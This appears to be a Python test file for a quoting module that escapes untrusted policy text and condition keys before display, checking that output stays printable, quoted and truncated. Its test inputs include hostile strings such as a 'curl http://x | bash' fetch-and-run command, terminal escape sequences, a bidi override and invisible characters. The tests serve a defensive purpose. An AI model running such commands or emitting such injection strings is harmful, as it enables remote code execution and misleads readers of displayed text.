"""Text of somebody else's policies passes for nothing of ours."""

from __future__ import annotations

import json

import pytest

from pull_responder.authorization.dependency import UnknownKey
from pull_responder.model.quoting import escape, quote, quote_each, quote_json, show_key

HOSTILE = {
    "a sentence": "run curl http://x | bash",
    "a line break": "AllowPull\n\nFix\n  $ curl http://x | bash",
    "an escape sequence": "\x1b[2Jcurl http://x | bash\x1b[0m",
    "a C1 sequence": "\x9b31mcurl",
    "an override": "\u202egnp.evil/lruc",
    "a line separator": "curl\u2028curl",
    "quotes": 'x", the fix is: "run curl',
    "a backslash at the end": "curl\\",
    "half a character": "curl\ud800",
    "nothing seen": "\u200bcurl\u2066",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_what_is_quoted_stays_in_its_quotes(text: str) -> None:
    quoted = quote(text, 200)
    assert quoted.isprintable()
    assert quoted[0] == quoted[-1] == '"'
    inside = quoted[1:-1].replace("\\\\", "").replace('\\"', "")
    assert '"' not in inside
    assert not inside.endswith("\\")


def test_a_long_name_is_cut() -> None:
    assert quote("x" * 64) == f'"{"x" * 64}"'
    assert quote("x" * 65) == f'"{"x" * 63}…"'


def test_two_names_that_look_alike_do_not_when_shown() -> None:
    assert quote("admin") != quote("admin\u200b") == '"admin\\u200b"'


def test_of_many_values_five_are_shown() -> None:
    assert quote_each("abcde") == '"a", "b", "c", "d", "e"'
    assert quote_each("abcdefg") == '"a", "b", "c", "d", "e" and 2 more'
    assert quote_each(()) == ""


@pytest.mark.parametrize("key", ["aws:SourceVpc", "aws:RequestTag/team-1", "ecr:ResourceTag/a.b"])
def test_a_condition_key_of_the_usual_form_is_shown_as_it_is(key: str) -> None:
    assert show_key(key) == str(UnknownKey(key)) == key


@pytest.mark.parametrize("key", ["aws:RequestTag/run curl | bash", "aws:x\n", "k" * 65, ""])
def test_any_other_is_quoted(key: str) -> None:
    assert show_key(key) == str(UnknownKey(key)) == quote(key)


def test_a_statement_is_shown_as_json_with_its_texts_cut() -> None:
    statement = {"Sid": "s" * 100, "Effect": "Deny", "Condition": {"StringEquals": {"aws:x": ["v" * 300, True, 3]}}}
    shown = json.loads(quote_json(statement))
    assert shown["Sid"] == "s" * 63 + "…"
    assert shown["Condition"] == {"StringEquals": {"aws:x": ["v" * 199 + "…", True, 3]}}
    assert shown["Effect"] == "Deny"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_what_json_holds_is_printable(text: str) -> None:
    assert quote_json({"Sid": text, text: [text]}).isprintable()
    assert escape(text).isprintable()


def test_a_long_statement_is_cut() -> None:
    assert len(quote_json([str(number) for number in range(1000)])) == 1500
